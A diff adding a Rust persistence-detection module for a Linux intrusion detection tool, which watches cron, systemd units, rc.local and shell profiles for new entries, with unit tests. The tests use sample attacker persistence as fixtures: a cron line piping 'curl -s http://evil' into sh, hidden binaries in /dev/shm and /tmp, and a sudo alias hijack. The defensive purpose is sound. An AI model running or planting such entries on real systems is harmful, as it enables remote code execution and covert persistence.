@@ -0,0 +1,489 @@
+use std::collections::{BTreeSet, HashMap};
+use std::sync::Arc;
+
+use crate::lara_core::core_enums::*;
+use crate::lara_core::core_structs::*;
+use crate::lara_core::core_traits::AnalysisModule;
+use crate::linux_bridge::source::{LinuxSource, SystemSource};
+
+// Crontabs that have a user field between the schedule and the command
+const SYSTEM_CRONTABS: [&str; 1] = ["/etc/crontab"];
+const SYSTEM_CRON_FOLDERS: [&str; 1] = ["/etc/cron.d"];
+// Crontabs edited with `crontab -e`, named after the user they run as (Debian, then RHEL)
+const USER_CRON_FOLDERS: [&str; 2] = ["/var/spool/cron/crontabs", "/var/spool/cron"];
+// Folders of scripts run by run-parts, every file in them is a job
+const CRON_SCRIPT_FOLDERS: [&str; 4] = ["/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly"];
+const RC_SCRIPTS: [&str; 1] = ["/etc/rc.local"];
+const SYSTEM_PROFILES: [&str; 4] = ["/etc/profile", "/etc/bash.bashrc", "/etc/bashrc", "/etc/environment"];
+const PROFILE_FOLDERS: [&str; 1] = ["/etc/profile.d"];
+const PASSWD: &str = "/etc/passwd";
+// User units shipped for everyone, started in the session of every user that logs in
+const SHARED_USER_UNIT_FOLDERS: [&str; 1] = ["/etc/systemd/user"];
+// Only these unit files can start something
+const UNIT_EXTENSIONS: [&str; 4] = [".service", ".timer", ".socket", ".path"];
+
+// One thing that will run on its own: a cron job, a unit's Exec line, an rc.local line or a line of a shell profile
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+struct PersistenceEntry {
+    kind: &'static str,
+    path: String,
+    // The user the entry runs as
+    user: String,
+    entry: String,
+}
+
+impl PersistenceEntry {
+    fn describe(&self) -> String {
+        format!("{} entry in {} running as {}: {}", self.kind, self.path, self.user, self.entry)
+    }
+}
+
+#[derive(Debug, Clone, Default)]
+struct CurrentData {
+    entries: BTreeSet<PersistenceEntry>,
+}
+
+pub struct PersistenceMonitor {
+    // This is the data generated by gatherData in current tick, it will be erased by the next tick
+    current_data: CurrentData,
+    //Everything else is persistent memory. The data you set in these will be remembered between ticks
+    // None until the first tick has recorded what was already in place
+    previous: Option<BTreeSet<PersistenceEntry>>,
+    unit_folders: Vec<String>,
+    home_profiles: Vec<String>,
+    module_name: String,
+    source: Arc<dyn SystemSource>,
+    failures: Vec<Log>,
+}
+
+impl AnalysisModule for PersistenceMonitor {
+    fn get_data(&mut self) -> bool {
+        let mut entries = BTreeSet::new();
+        self.collect_cron(&mut entries);
+        self.collect_units(&mut entries);
+        for path in RC_SCRIPTS {
+            if let Some(content) = self.read_optional(path) {
+                entries.extend(script_lines(&content).map(|line| entry("rc", path, "root", line)));
+            }
+        }
+        self.collect_profiles(&mut entries);
+        self.current_data.entries = entries;
+        // Missing files are normal, so only a failed read counts as failing to gather data
+        self.failures.is_empty()
+    }
+
+    fn get_testing_data(&mut self) -> bool {
+        todo!()
+    }
+
+    fn perform_analysis(&mut self) -> Vec<Log> {
+        let mut results = std::mem::take(&mut self.failures);
+        let current = std::mem::take(&mut self.current_data.entries);
+        let previous = match self.previous.take() {
+            Some(previous) => previous,
+            None => {
+                let mut counts: Vec<String> = Vec::new();
+                for kind in ["cron", "systemd", "rc", "profile"] {
+                    counts.push(format!("{} {}", current.iter().filter(|entry| entry.kind == kind).count(), kind));
+                }
+                results.push(Log::new(LogType::Info, self.module_name.clone(), format!("Recorded {} persistence entries ({})", current.len(), counts.join(", "))));
+                self.previous = Some(current);
+                return results;
+            }
+        };
+        for added in current.difference(&previous) {
+            results.push(Log::new(LogType::Warning, self.module_name.clone(), format!("New {}", added.describe())));
+        }
+        for removed in previous.difference(&current) {
+            results.push(Log::new(LogType::Info, self.module_name.clone(), format!("Removed {}", removed.describe())));
+        }
+        self.previous = Some(current);
+        results
+    }
+
+    fn get_name(&self) -> String {
+        self.module_name.clone()
+    }
+
+    fn build_config_fields(&self) -> Vec<ConfigField> {
+        vec![
+            ConfigField::new("UnitFolders".to_owned(), "Folders of systemd unit files to watch for new Exec lines".to_owned(), ConfigFieldType::String, self.unit_folders.clone(), true),
+            ConfigField::new("HomeProfiles".to_owned(), "Shell startup files in each user's home folder to watch for new lines".to_owned(), ConfigFieldType::String, self.home_profiles.clone(), true),
+        ]
+    }
+
+    fn retrieve_config_data(&mut self, data: HashMap<String, Vec<String>>) -> bool {
+        for (field, vals) in data {
+            let vals: Vec<String> = vals.into_iter().filter(|val| !val.is_empty()).collect();
+            match field.as_str() {
+                "UnitFolders" => self.unit_folders = vals,
+                "HomeProfiles" => self.home_profiles = vals,
+                _ => {}
+            }
+        }
+        true
+    }
+}
+
+impl PersistenceMonitor {
+    pub fn with_source(source: Arc<dyn SystemSource>) -> Self {
+        Self {
+            source,
+            ..Default::default()
+        }
+    }
+
+    // None when the file doesn't exist, anything else that stops it being read is logged
+    fn read_optional(&mut self, path: &str) -> Option<String> {
+        match self.source.read_to_string(path) {
+            Ok(content) => Some(content),
+            Err(ChromiaError::Io(e)) if e.kind() == std::io::ErrorKind::NotFound => None,
+            Err(e) => {
+                self.failures.push(Log::ids_failure(self.module_name.clone(), &format!("Failed to read {}", path), &e));
+                None
+            }
+        }
+    }
+
+    fn list_optional(&mut self, folder: &str) -> Vec<String> {
+        match self.source.read_dir(folder) {
+            Ok(mut names) => {
+                names.sort();
+                names
+            }
+            Err(ChromiaError::Io(e)) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
+            Err(e) => {
+                self.failures.push(Log::ids_failure(self.module_name.clone(), &format!("Failed to list {}", folder), &e));
+                Vec::new()
+            }
+        }
+    }
+
+    // Only the first user crontab folder that exists is read. On Debian /var/spool/cron also holds the at
+    // spool folders, which aren't crontabs. Anything that isn't a regular file is skipped
+    fn user_crontabs(&mut self) -> Vec<String> {
+        for folder in USER_CRON_FOLDERS {
+            match self.source.list_files(folder) {
+                Ok(files) => {
+                    let mut paths: Vec<String> = files
+                        .into_iter()
+                        .map(|file| file.path)
+                        .filter(|path| std::path::Path::new(path).parent() == Some(std::path::Path::new(folder)))
+                        .collect();
+                    paths.sort();
+                    return paths;
+                }
+                Err(ChromiaError::Io(e)) if e.kind() == std::io::ErrorKind::NotFound => continue,
+                Err(e) => {
+                    self.failures.push(Log::ids_failure(self.module_name.clone(), &format!("Failed to list {}", folder), &e));
+                    return Vec::new();
+                }
+            }
+        }
+        Vec::new()
+    }
+
+    fn collect_cron(&mut self, entries: &mut BTreeSet<PersistenceEntry>) {
+        let mut system_crontabs: Vec<String> = SYSTEM_CRONTABS.iter().map(|path| path.to_string()).collect();
+        for folder in SYSTEM_CRON_FOLDERS {
+            // run-parts skips names with dots in them (editor backups and dpkg leftovers), so cron does too
+            system_crontabs.extend(self.list_optional(folder).into_iter().filter(|name| !name.contains('.')).map(|name| format!("{}/{}", folder, name)));
+        }
+        for path in system_crontabs {
+            if let Some(content) = self.read_optional(&path) {
+                for (user, job) in parse_crontab(&content, None) {
+                    entries.insert(entry("cron", &path, &user, job));
+                }
+            }
+        }
+        for path in self.user_crontabs() {
+            let user = path.rsplit('/').next().unwrap_or_default().to_string();
+            if let Some(content) = self.read_optional(&path) {
+                for (user, job) in parse_crontab(&content, Some(&user)) {
+                    entries.insert(entry("cron", &path, &user, job));
+                }
+            }
+        }
+        for folder in CRON_SCRIPT_FOLDERS {
+            for name in self.list_optional(folder) {
+                if name.starts_with('.') {
+                    continue;
+                }
+                entries.insert(entry("cron", folder, "root", format!("script {}", name)));
+            }
+        }
+    }
+
+    fn collect_units(&mut self, entries: &mut BTreeSet<PersistenceEntry>) {
+        let mut folders: Vec<(String, String)> = self.unit_folders.iter().map(|folder| (folder.clone(), "root".to_string())).collect();
+        // Units under a user's home start when they log in (or at boot with lingering enabled)
+        folders.extend(SHARED_USER_UNIT_FOLDERS.iter().map(|folder| (folder.to_string(), "every user".to_string())));
+        for (user, home) in self.homes() {
+            folders.push((format!("{}/.config/systemd/user", home), user));
+        }
+        let is_unit = |name: &str| UNIT_EXTENSIONS.iter().any(|extension| name.ends_with(extension));
+        for (folder, default_user) in folders {
+            let folder = folder.trim_end_matches('/');
+            // Sorted, so a unit is read before its drop-in folder and the drop-ins inherit its User=
+            let mut unit_users: HashMap<String, String> = HashMap::new();
+            for name in self.list_optional(folder) {
+                let path = format!("{}/{}", folder, name);
+                if is_unit(&name) {
+                    let user = self.collect_unit_file(&path, &default_user, entries);
+                    unit_users.insert(name, user);
+                } else if let Some(unit) = name.strip_suffix(".d").filter(|unit| is_unit(unit)) {
+                    // Drop-ins (`systemctl edit`) add Exec lines to a unit without touching the unit file
+                    let unit_user = unit_users.get(unit).cloned().unwrap_or_else(|| default_user.clone());
+                    for conf in self.list_optional(&path).into_iter().filter(|conf| conf.ends_with(".conf")) {
+                        self.collect_unit_file(&format!("{}/{}", path, conf), &unit_user, entries);
+                    }
+                }
+            }
+        }
+    }
+
+    // Returns the user the unit file runs as
+    fn collect_unit_file(&mut self, path: &str, default_user: &str, entries: &mut BTreeSet<PersistenceEntry>) -> String {
+        let content = match self.read_optional(path) {
+            Some(content) => content,
+            None => return default_user.to_string(),
+        };
+        let (user, commands) = parse_unit(&content);
+        let user = user.unwrap_or_else(|| default_user.to_string());
+        for command in commands {
+            entries.insert(entry("systemd", path, &user, command));
+        }
+        user
+    }
+
+    fn collect_profiles(&mut self, entries: &mut BTreeSet<PersistenceEntry>) {
+        let mut profiles: Vec<(String, String)> = SYSTEM_PROFILES.iter().map(|path| (path.to_string(), "root".to_string())).collect();
+        for folder in PROFILE_FOLDERS {
+            // Every user that logs in runs these, but they are owned by root
+            profiles.extend(self.list_optional(folder).into_iter().filter(|name| name.ends_with(".sh")).map(|name| (format!("{}/{}", folder, name), "root".to_string())));
+        }
+        for (user, home) in self.homes() {
+            for profile in &self.home_profiles {
+                profiles.push((format!("{}/{}", home, profile), user.clone()));
+            }
+        }
+        for (path, user) in profiles {
+            if let Some(content) = self.read_optional(&path) {
+                entries.extend(script_lines(&content).map(|line| entry("profile", &path, &user, line)));
+            }
+        }
+    }
+
+    // Every user with a real home folder, as (username, home)
+    fn homes(&mut self) -> Vec<(String, String)> {
+        let passwd = match self.read_optional(PASSWD) {
+            Some(passwd) => passwd,
+            None => return Vec::new(),
+        };
+        let mut homes: Vec<(String, String)> = Vec::new();
+        for line in passwd.lines() {
+            let fields: Vec<&str> = line.split(':').collect();
+            if line.starts_with('#') || fields.len() < 6 {
+                continue;
+            }
+            let home = fields[5].trim_end_matches('/');
+            // Service accounts point at / or /nonexistent, and several users can share a home
+            if home.is_empty() || home == "/nonexistent" || homes.iter().any(|(_, seen)| seen == home) {
+                continue;
+            }
+            homes.push((fields[0].to_string(), home.to_string()));
+        }
+        homes
+    }
+}
+
+fn entry(kind: &'static str, path: &str, user: &str, entry: String) -> PersistenceEntry {
+    PersistenceEntry {
+        kind,
+        path: path.to_string(),
+        user: user.to_string(),
+        entry,
+    }
+}
+
+// Lines of a shell script that do something, without blank lines, comments, the shebang or a trailing exit 0
+fn script_lines(content: &str) -> impl Iterator<Item = String> + '_ {
+    content.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#') && *line != "exit 0").map(|line| line.to_string())
+}
+
+// Returns (user, "schedule command") for each job. Crontabs from `crontab -e` have no user field and run as the
+// owner of the crontab, which is passed in as user
+fn parse_crontab(content: &str, user: Option<&str>) -> Vec<(String, String)> {
+    let mut jobs = Vec::new();
+    for line in content.lines().map(str::trim) {
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let fields: Vec<&str> = line.split_whitespace().collect();
+        // Variable assignments like SHELL=/bin/sh or MAILTO=root
+        if fields[0].contains('=') {
+            continue;
+        }
+        // @reboot and friends replace all five time fields
+        let schedule_len = if fields[0].starts_with('@') { 1 } else { 5 };
+        let (user, command_start) = match user {
+            Some(user) => (user.to_string(), schedule_len),
+            None => match fields.get(schedule_len) {
+                Some(user) => (user.to_string(), schedule_len + 1),
+                None => continue,
+            },
+        };
+        if fields.len() <= command_start {
+            continue;
+        }
+        jobs.push((user, format!("{} {}", fields[..schedule_len].join(" "), fields[command_start..].join(" "))));
+    }
+    jobs
+}
+
+// Returns the User= the unit runs as, if set, and each Exec line as "ExecStart=/path args"
+fn parse_unit(content: &str) -> (Option<String>, Vec<String>) {
+    let mut user = None;
+    let mut commands = Vec::new();
+    for line in content.lines().map(str::trim) {
+        let (key, value) = match line.split_once('=') {
+            Some((key, value)) => (key.trim(), value.trim()),
+            None => continue,
+        };
+        if key == "User" && !value.is_empty() {
+            user = Some(value.to_string());
+        } else if key.starts_with("Exec") && !value.is_empty() {
+            commands.push(format!("{}={}", key, value));
+        }
+    }
+    (user, commands)
+}
+
+impl Default for PersistenceMonitor {
+    fn default() -> Self {
+        Self {
+            current_data: CurrentData::default(),
+            previous: None,
+            unit_folders: ["/etc/systemd/system", "/usr/lib/systemd/system", "/run/systemd/system"].iter().map(|&s| s.to_string()).collect(),
+            home_profiles: [".bashrc", ".bash_profile", ".bash_login", ".profile", ".bash_logout", ".zshrc"].iter().map(|&s| s.to_string()).collect(),
+            module_name: String::from("Persistence"),
+            source: Arc::new(LinuxSource::default()),
+            failures: Vec::new(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::linux_bridge::source::FakeSource;
+
+    fn fake_host() -> Arc<FakeSource> {
+        let source = Arc::new(FakeSource::new());
+        source.set_file(PASSWD, "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n");
+        source.set_file("/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
+        source.set_file("/etc/systemd/system/nginx.service", "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n");
+        source.set_file("/home/alice/.bashrc", "# ~/.bashrc\nalias ll='ls -l'\n");
+        source
+    }
+
+    fn monitor_after_baseline(source: Arc<FakeSource>) -> PersistenceMonitor {
+        let mut monitor = PersistenceMonitor::with_source(source);
+        assert!(monitor.get_data());
+        let logs = monitor.perform_analysis();
+        assert_eq!(logs.len(), 1);
+        assert_eq!(logs[0].message, "Recorded 3 persistence entries (1 cron, 1 systemd, 0 rc, 1 profile)");
+        monitor
+    }
+
+    #[test]
+    fn test_parse_crontab() {
+        let jobs = parse_crontab("MAILTO=root\n@reboot /tmp/.x/run\n*/5 * * * * curl -s http://evil | sh\n", Some("www-data"));
+        assert_eq!(jobs, vec![("www-data".to_string(), "@reboot /tmp/.x/run".to_string()), ("www-data".to_string(), "*/5 * * * * curl -s http://evil | sh".to_string())]);
+    }
+
+    #[test]
+    fn test_added_entries_name_the_line_and_user() {
+        let source = fake_host();
+        let mut monitor = monitor_after_baseline(source.clone());
+
+        source.set_file("/var/spool/cron/crontabs/www-data", "* * * * * /dev/shm/.k\n");
+        source.set_file("/etc/systemd/system/dbus-helper.service", "[Service]\nUser=alice\nExecStart=/home/alice/.cache/helper\n");
+        source.set_file("/home/alice/.bashrc", "# ~/.bashrc\nalias ll='ls -l'\nalias sudo='/tmp/s'\n");
+        assert!(monitor.get_data());
+        let logs = monitor.perform_analysis();
+        let messages: Vec<&str> = logs.iter().map(|log| log.message.as_str()).collect();
+        assert_eq!(
+            messages,
+            vec![
+                "New cron entry in /var/spool/cron/crontabs/www-data running as www-data: * * * * * /dev/shm/.k",
+                "New profile entry in /home/alice/.bashrc running as alice: alias sudo='/tmp/s'",
+                "New systemd entry in /etc/systemd/system/dbus-helper.service running as alice: ExecStart=/home/alice/.cache/helper",
+            ]
+        );
+        assert!(logs.iter().all(|log| log.build_alert().contains("[Warning]")));
+
+        assert!(monitor.get_data());
+        assert!(monitor.perform_analysis().is_empty());
+    }
+
+    #[test]
+    fn test_drop_ins_and_shared_user_units() {
+        let source = fake_host();
+        source.set_file("/etc/systemd/system/nginx.service", "[Service]\nUser=www-data\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n");
+        let mut monitor = monitor_after_baseline(source.clone());
+
+        source.set_file("/etc/systemd/system/nginx.service.d/override.conf", "[Service]\nExecStartPre=/var/www/.cache/kworker\n");
+        source.set_file("/etc/systemd/system/nginx.service.d/notes.txt", "ExecStartPre=/bin/true\n");
+        source.set_file("/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStartPost=/tmp/.s\n");
+        source.set_file("/etc/systemd/user/pulse-helper.service", "[Service]\nExecStart=/usr/local/bin/pulse-helper\n");
+        assert!(monitor.get_data());
+        let messages: Vec<String> = monitor.perform_analysis().into_iter().map(|log| log.message).collect();
+        assert_eq!(
+            messages,
+            vec![
+                "New systemd entry in /etc/systemd/system/nginx.service.d/override.conf running as www-data: ExecStartPre=/var/www/.cache/kworker",
+                "New systemd entry in /etc/systemd/system/ssh.service.d/override.conf running as root: ExecStartPost=/tmp/.s",
+                "New systemd entry in /etc/systemd/user/pulse-helper.service running as every user: ExecStart=/usr/local/bin/pulse-helper",
+            ]
+        );
+    }
+
+    #[test]
+    fn test_removed_entry_is_info() {
+        let source = fake_host();
+        let mut monitor = monitor_after_baseline(source.clone());
+
+        source.remove_file("/etc/systemd/system/nginx.service");
+        assert!(monitor.get_data());
+        let logs = monitor.perform_analysis();
+        assert_eq!(logs.len(), 1);
+        assert!(logs[0].build_alert().contains("[Info]"));
+        assert_eq!(logs[0].message, "Removed systemd entry in /etc/systemd/system/nginx.service running as root: ExecStart=/usr/sbin/nginx -g 'daemon off;'");
+    }
+
+    #[test]
+    fn test_only_crontabs_are_read_from_the_cron_spool() {
+        let source = fake_host();
+        source.set_file("/var/spool/cron/crontabs/alice", "@reboot /home/alice/.x\n");
+        source.set_file("/var/spool/cron/atjobs/a0000101a2b3c4", "#!/bin/sh\numask 22\n");
+        source.set_file("/var/spool/cron/atspool/a0000101a2b3c4", "output\n");
+        let mut monitor = PersistenceMonitor::with_source(source);
+        assert!(monitor.get_data());
+        let logs = monitor.perform_analysis();
+        assert_eq!(logs.len(), 1);
+        assert_eq!(logs[0].message, "Recorded 4 persistence entries (2 cron, 1 systemd, 0 rc, 1 profile)");
+    }
+
+    #[test]
+    fn test_user_crontabs_on_rhel_layout() {
+        let source = fake_host();
+        let mut monitor = monitor_after_baseline(source.clone());
+
+        source.set_file("/var/spool/cron/alice", "@reboot /home/alice/.x\n");
+        assert!(monitor.get_data());
+        let logs = monitor.perform_analysis();
+        assert_eq!(logs.len(), 1);
+        assert_eq!(logs[0].message, "New cron entry in /var/spool/cron/alice running as alice: @reboot /home/alice/.x");
+    }
+}